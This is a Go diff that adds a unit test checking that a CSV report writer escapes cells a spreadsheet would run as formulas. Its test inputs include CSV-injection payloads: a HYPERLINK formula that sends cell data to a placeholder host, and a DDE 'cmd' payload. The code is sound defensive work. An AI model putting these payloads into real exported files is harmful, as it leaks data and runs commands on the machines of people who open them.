@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"io"
 	"net/netip"
+	"slices"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -56,6 +57,34 @@ func TestCSV(t *testing.T) {
 	out.Reset()
 	require.NoError(t, CSV(&out).Finish(nil))
 	require.Regexp(t, "^file,line,.*tor_list_time,tor_host,tor_peer\n$", out.String(), "no row is a header all the same")
+}
+
+// What a spreadsheet would take for a formula is text there.
+func TestFormulas(t *testing.T) {
+	for text, want := range map[string]string{
+		`=HYPERLINK("http://192.0.2.66/?"&A1,"click")`: `'=HYPERLINK("http://192.0.2.66/?"&A1,"click")`,
+		"=cmd|' /C calc'!A0":                           "'=cmd|' /C calc'!A0", "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd", "+1+1": "'+1+1", "-2+3": "'-2+3", "  =1": "'  =1",
+		"\t=1": "?=1", "\r=1": "?=1", "\n=1": ";=1", "\uff1d1+1": "'\uff1d1+1", "=1": "'=1",
+		"-": "-", "-5": "-5", "+4.5": "+4.5", "a=b": "a=b", "": "", "::1": "::1", "é": "é", "www.example": "www.example",
+	} {
+		f := sample()
+		f.Cells[scan.User], f.Cells[scan.SNI], f.Cells[scan.App] = []byte(text), []byte(text), []byte(text)
+		var out bytes.Buffer
+		r := CSV(&out)
+		require.NoError(t, r.Add(f))
+		require.NoError(t, r.Finish(nil))
+		require.NotRegexp(t, `(^|[,\n]"?) *[=@\x{ff1d}]`, out.String(), "%q", text)
+		rows, err := csv.NewReader(&out).ReadAll()
+		require.NoError(t, err)
+		for _, column := range []string{"user", "sni", "app"} {
+			require.Equal(t, want, rows[1][slices.Index(rows[0], column)], "%q", text)
+		}
+	}
+	f := sample()
+	f.Cells[scan.User] = []byte("anna")
+	encode := CSV(io.Discard).(*csvReport).Encoder()
+	line := encode(nil, f)
+	require.Zero(t, testing.AllocsPerRun(20, func() { line = encode(line[:0], f) }))
 }
 
 func TestJSON(t *testing.T) {
